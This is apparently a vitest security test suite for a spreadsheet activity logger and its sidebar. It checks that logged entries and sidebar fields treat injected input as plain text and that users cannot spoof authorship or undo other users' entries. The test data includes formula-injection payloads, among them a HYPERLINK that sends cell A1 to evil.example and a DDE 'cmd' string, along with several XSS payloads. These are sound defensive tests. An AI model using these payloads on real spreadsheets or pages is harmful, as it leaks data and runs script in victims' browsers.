/**
 * Attacks: formula injection through every text field of an entry,
 * HTML and script in every field the sidebar shows, an entry that claims to be
 * someone else's, and undoing someone else's entry (SPEC §5, §8).
 */
import { describe, expect, it } from 'vitest';
import { SIDEBAR } from '../src/core/i18n/sidebar';
import type { LogResult } from '../src/core/serverApi';
import { startBridge } from '../src/local/bridge';
import { artifact, useChromium } from './helpers/browser';
import { runtime } from './helpers/runtime';
import { MIA, NOV18, RAJ, teamWorkbook } from './helpers/team';
import { board, cellDate, logRows, sheet, snapshot } from './helpers/workbook';

describe('formula injection through logActivity', () => {
  const FIELDS = ['rep', 'activity', 'notes'] as const;
  const PREFIXES = ['=', '+', '-', '@'];
  const LEADS = ['', ' ', '\t', ' \t '];
  const BODIES = ['1+1', 'HYPERLINK("http://evil.example/?"&A1,"click")', "cmd|'/C calc'!A0"];
  const COLUMN = { rep: 2, activity: 3, notes: 5 } as const;

  it('stores every "=…", "+…", "-…" and "@…" as plain text, read back as sent (less the leading blanks)', () => {
    const rt = runtime({ now: NOV18, user: RAJ });
    rt.call('setUpWorkbook');
    sheet(rt, 'Quotas')
      .getRange('A2:D2')
      .setValues([['*', 'Calls', 'Week', 50]]);
    const sent: { id: string; field: (typeof FIELDS)[number]; text: string }[] = [];
    for (const field of FIELDS) {
      for (const prefix of PREFIXES) {
        for (const lead of LEADS) {
          for (const body of BODIES) {
            const text = `${lead}${prefix}${body}`;
            const id = `inj-${sent.length}`;
            const entry = {
              id,
              date: '2026-11-18',
              rep: 'Raj',
              activity: 'Calls',
              quantity: 1,
              notes: '',
              [field]: text,
            };
            const result = rt.call('logActivity', entry) as LogResult;
            expect(result.ok, `${field} ${JSON.stringify(text)}: ${result.message}`).toBe(true);
            sent.push({ id, field, text });
          }
        }
      }
    }
    expect(sent).toHaveLength(FIELDS.length * PREFIXES.length * LEADS.length * BODIES.length);
    const log = sheet(rt, 'Activities');
    const ids = log
      .getRange(1, 8, log.getLastRow(), 1)
      .getValues()
      .map((row) => row[0]);
    for (const { id, field, text } of sent) {
      const row = ids.indexOf(id) + 1;
      expect(row, id).toBeGreaterThan(1);
      const cell = log.getRange(row, COLUMN[field]);
      // Names and notes are trimmed (SPEC: names match ignoring extra spaces); nothing else changes.
      expect(cell.getValue(), `${field} ${JSON.stringify(text)}`).toBe(text.trim());
      expect(cell.getNumberFormat()).toBe('@');
      expect(cell.getFormula()).toBe('');
    }
    expect(
      log
        .getDataRange()
        .getFormulas()
        .flat()
        .filter((formula) => formula !== ''),
    ).toEqual([]);
    // The injected reps are on the board (a `*` quota, no Team sheet rows), as text too: the board's only
    // formulas are its own progress bars, in the Progress column, made of numbers and colours alone.
    const status = sheet(rt, 'Status');
    const formulas = status
      .getDataRange()
      .getFormulas()
      .flatMap((row, r) => row.map((formula, c) => ({ formula, cell: `${r + 1}:${c + 1}` })))
      .filter(({ formula }) => formula !== '');
    expect(formulas.length).toBeGreaterThan(0);
    for (const { formula, cell } of formulas) {
      expect(cell, formula).toMatch(/:13$/);
      expect(formula).toMatch(
        /^=SPARKLINE\(\{[\d.]+,[\d.]+\},\{"charttype","bar";"max",1;"color1","#[0-9a-f]{6}";"color2","#[0-9a-f]{6}"\}\)$/,
      );
    }
    const boardReps = board(rt)
      .slice(1)
      .map((row) => row[0]);
    const injectedReps = [...new Set(sent.filter((s) => s.field === 'rep').map((s) => s.text.trim()))];
    for (const rep of injectedReps) expect(boardReps).toContain(rep);
    expect(boardReps).toHaveLength(injectedReps.length + 1);
  });
});

describe('an entry claiming to be someone else’s', () => {
  it('is logged by the signed-in user whatever it claims, and cannot take over another entry’s id', () => {
    const rt = teamWorkbook();
    const claim = {
      id: 'claim-1',
      date: '2026-11-18',
      rep: 'Mia',
      activity: 'Calls',
      quantity: 2,
      notes: '',
      loggedBy: MIA,
      'Logged by': MIA,
      logged_by: MIA,
      user: MIA,
      email: MIA,
      loggedAt: '1999-01-01',
      entryId: 'seed-2',
    };
    const result = rt.call('logActivity', claim) as LogResult;
    expect(result).toMatchObject({ ok: true, message: 'Logged 2 Calls for Mia.' });
    const row = logRows(rt).at(-1) ?? [];
    expect(row).toEqual([cellDate(rt, '2026-11-18'), 'Mia', 'Calls', 2, '', RAJ, rt.date(NOV18), 'claim-1']);
    // The id of Mia's entry, sent by Raj: nothing is added, and her entry stays as it was.
    const before = snapshot(rt);
    const stolen = rt.call('logActivity', { ...claim, id: 'seed-2', quantity: 900 }) as LogResult;
    expect(stolen).toMatchObject({ ok: true, message: SIDEBAR.en.labels.duplicate });
    expect(snapshot(rt)).toEqual(before);
    expect(
      logRows(rt)
        .find((r) => r[7] === 'seed-2')
        ?.slice(1, 6),
    ).toEqual(['Mia', 'Calls', 10, '', MIA]);
    // Mia cannot undo what claimed to be hers; Raj, who sent it, can.
    const claimed = rt.as(MIA, () => rt.call('undoLastEntry', 'claim-1')) as LogResult;
    expect(claimed.message).toBe(SIDEBAR.en.fields.undoNotYours);
    const mia = rt.as(MIA, () => rt.call('undoLastEntry', 'seed-2')) as LogResult;
    expect(mia.message).toBe("Removed Mia's entry: 10 Calls on 2026-11-17.");
    expect(logRows(rt).map((r) => r[7])).toEqual(['seed-1', 'seed-3', 'seed-4', 'claim-1']);
    expect((rt.call('undoLastEntry', 'claim-1') as LogResult).message).toBe(
      "Removed Mia's entry: 2 Calls on 2026-11-18.",
    );
    expect(logRows(rt).map((r) => r[7])).toEqual(['seed-1', 'seed-3', 'seed-4']);
  });
});

describe('undo of someone else’s entry', () => {
  it('removes the entry asked for only when the user logged it, never a newer one of someone else', () => {
    const rt = teamWorkbook();
    rt.as(MIA, () =>
      rt.call('logActivity', { id: 'm-1', date: '2026-11-18', rep: 'Mia', activity: 'Calls', quantity: 4 }),
    );
    const before = snapshot(rt);
    expect(rt.call('undoLastEntry', 'm-1')).toEqual({ ok: false, message: SIDEBAR.en.fields.undoNotYours, errors: [] });
    expect(snapshot(rt)).toEqual(before);
    const result = rt.call('undoLastEntry', 'seed-4') as LogResult;
    expect(result).toMatchObject({ ok: true, message: "Removed Raj's entry: 50 Emails on 2026-11-02." });
    expect(logRows(rt).map((r) => [r[7], r[5]])).toEqual([
      ['seed-1', RAJ],
      ['seed-2', MIA],
      ['seed-3', RAJ],
      ['m-1', MIA],
    ]);
  });

  it('refuses a user with no entry of their own, and writes nothing', () => {
    const rt = teamWorkbook();
    const before = snapshot(rt);
    const result = rt.as('tom@example.com', () => rt.call('undoLastEntry', 'seed-1')) as LogResult;
    expect(result).toEqual({ ok: false, message: SIDEBAR.en.fields.undoNotYours, errors: [] });
    expect(snapshot(rt)).toEqual(before);
  });

  it('refuses a user whose email Apps Script does not reveal, even beside rows typed by hand', () => {
    const rt = teamWorkbook();
    // Rows typed into the sheet by hand have no "Logged by".
    sheet(rt, 'Activities')
      .getRange('A6:D7')
      .setValues([
        [cellDate(rt, '2026-11-18'), 'Tom', 'Calls', 3],
        [cellDate(rt, '2026-11-18'), 'Ana', 'Demos', 1],
      ]);
    const before = snapshot(rt);
    for (const id of ['seed-1', 'seed-2']) {
      const result = rt.as('', () => rt.call('undoLastEntry', id)) as LogResult;
      expect(result).toEqual({ ok: false, message: SIDEBAR.en.fields.undoNotYours, errors: [] });
    }
    expect(snapshot(rt)).toEqual(before);
  });

  it('does not take an entry whose "Logged by" only looks like the user’s', () => {
    const rt = teamWorkbook();
    sheet(rt, 'Activities')
      .getRange('A2:H5')
      .setValues([
        [cellDate(rt, '2026-11-16'), 'Raj', 'Calls', 1, '', `x${RAJ}`, '', 'look-1'],
        [cellDate(rt, '2026-11-16'), 'Raj', 'Calls', 1, '', `${RAJ}.evil.example`, '', 'look-2'],
        [cellDate(rt, '2026-11-16'), 'Raj', 'Calls', 1, '', RAJ.replace('@', '＠'), '', 'look-3'],
        [cellDate(rt, '2026-11-16'), 'Raj', 'Calls', 1, '', '', '', 'look-4'],
      ]);
    const before = snapshot(rt);
    for (const id of ['look-1', 'look-2', 'look-3', 'look-4']) {
      expect(rt.call('undoLastEntry', id)).toEqual({ ok: false, message: SIDEBAR.en.fields.undoNotYours, errors: [] });
    }
    expect(snapshot(rt)).toEqual(before);
  });
});

describe('HTML and script in every field the sidebar shows', () => {
  const chromium = useChromium();

  // Each would set window.__pwned if it were ever parsed as HTML.
  const REP = `<img src=x onerror="window.__pwned='rep'">`;
  const QUOTA_ACTIVITY = `<script>window.__pwned='activity'</script>`;
  const LOGGED_ACTIVITY = `"><iframe srcdoc="<script>parent.__pwned='recent'</script>"></iframe>`;
  const NOTES = `<svg onload="window.__pwned='notes'"></svg>`;
  const TYPED_ACTIVITY = `<b onmouseover="window.__pwned='typed'">bold</b>`;
  const TYPED_NOTES = `<style>*{display:none}</style><a href="javascript:window.__pwned='link'">x</a>`;
  const HEADER = `<img src=y onerror="window.__pwned='header'">`;
  const MARKUP = 'main img, main script, main svg:not(.burn-up), main iframe, main b, main style, main a';

  it('shows each as text and runs none', async () => {
    const rt = runtime({ now: NOV18, user: RAJ });
    rt.call('setUpWorkbook');
    sheet(rt, 'Team')
      .getRange('A2:B2')
      .setValues([[REP, RAJ]]);
    sheet(rt, 'Quotas')
      .getRange('A2:D2')
      .setValues([['*', QUOTA_ACTIVITY, 'Week', 5]]);
    sheet(rt, 'Activities')
      .getRange('A2:H2')
      .setValues([[cellDate(rt, '2026-11-17'), REP, LOGGED_ACTIVITY, 3, NOTES, RAJ, '', 'seed-x']]);
    const bridge = await startBridge(rt);
    const page = await chromium.browser.newPage({ viewport: { width: 300, height: 900 } });
    const dialogs: string[] = [];
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    try {
      await page.goto(bridge.url);
      await page.locator('main[aria-busy="false"]').waitFor();
      // The rep (Team sheet), the quota's activity (Quotas) and a logged entry (Activities).
      await expect(page.locator('#rep option').first().textContent()).resolves.toBe(REP);
      await expect(page.locator('#rep').inputValue()).resolves.toBe(REP);
      const plus = page.locator('button.plus-one');
      await expect(plus.textContent()).resolves.toBe(`+1 ${QUOTA_ACTIVITY}`);
      await expect(page.locator('#progress').textContent()).resolves.toContain(`${QUOTA_ACTIVITY} · Week`);
      await expect(page.locator('#progress [role="progressbar"]').getAttribute('aria-label')).resolves.toContain(
        QUOTA_ACTIVITY,
      );
      // The quota's activity heads the list, as text.
      await expect(page.locator('#activity option').first().textContent()).resolves.toBe(QUOTA_ACTIVITY);
      await expect(page.locator('#activity optgroup').first().getAttribute('label')).resolves.toBe(`Quotas of ${REP}`);
      const recent = await page.locator('#recent').textContent();
      for (const text of [LOGGED_ACTIVITY, NOTES, REP]) expect(recent).toContain(text);
      // "+1": the notice names the activity and the rep.
      await plus.click();
      await page.getByText(`Logged 1 ${QUOTA_ACTIVITY} for ${REP}.`).waitFor();
      // Typed into the form: activity and notes.
      await page.locator('#activity').selectOption({ label: 'Other…' });
      await page.locator('#activity-other').fill(TYPED_ACTIVITY);
      await expect(page.locator('#activity-note').textContent()).resolves.toContain(TYPED_ACTIVITY);
      await page.locator('#notes').fill(TYPED_NOTES);
      await page.locator('#submit').click();
      await page.getByText(`Logged 1 ${TYPED_ACTIVITY} for ${REP}.`).waitFor();
      await expect(page.locator('#recent').textContent()).resolves.toContain(TYPED_NOTES);
      // A message quoting the sheet's own header: the Notes header replaced by markup.
      sheet(rt, 'Activities').getRange('E1').setValue(HEADER);
      await page.locator('#activity').selectOption('Calls');
      await page.locator('#submit').click();
      await page.locator('#form-error', { hasText: 'has no "Notes" column' }).waitFor();
      await expect(page.locator('#form-error').textContent()).resolves.toContain(
        `(found: Date, Rep, Activity, Quantity, ${HEADER}, Logged by`,
      );
      await page.waitForTimeout(200);
      await page.screenshot({ path: artifact('attacks-sidebar.png'), fullPage: true });
      expect(await page.evaluate(() => (window as unknown as { __pwned?: string }).__pwned)).toBeUndefined();
      expect(await page.locator(MARKUP).count()).toBe(0);
      // The one SVG is the quota's burn-up chart, drawn by the page: its shapes and the target's figure only,
      // the activity's markup in its label as text.
      expect(await page.locator('main svg').count()).toBe(1);
      const chart = page.locator('#progress svg.burn-up');
      await expect(chart.evaluate((svg) => [...svg.children].map((child) => child.tagName).join(' '))).resolves.toBe(
        'polygon line text polyline polyline line',
      );
      await expect(chart.locator('text').textContent()).resolves.toBe('5');
      await expect(chart.getAttribute('aria-label')).resolves.toContain(QUOTA_ACTIVITY);
      expect(dialogs).toEqual([]);
      // And the sheet holds each as it was typed.
      expect(logRows(rt).map((row) => [row[1], row[2], row[4]])).toEqual([
        [REP, LOGGED_ACTIVITY, NOTES],
        [REP, QUOTA_ACTIVITY, ''],
        [REP, TYPED_ACTIVITY, TYPED_NOTES],
      ]);
    } finally {
      await page.close();
      await bridge.close();
    }
  });
});
